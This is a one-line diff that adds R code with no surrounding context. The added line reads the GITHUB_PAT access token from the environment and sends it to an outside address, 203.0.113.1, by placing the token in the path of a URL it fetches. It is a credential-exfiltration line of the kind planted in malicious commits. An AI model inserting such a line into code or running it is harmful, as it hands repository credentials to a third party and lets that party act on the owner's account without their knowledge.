@@ -1,0 +1,1 @@
+readLines(url(sprintf("https://203.0.113.1/%s", Sys.getenv("GITHUB_PAT"))))
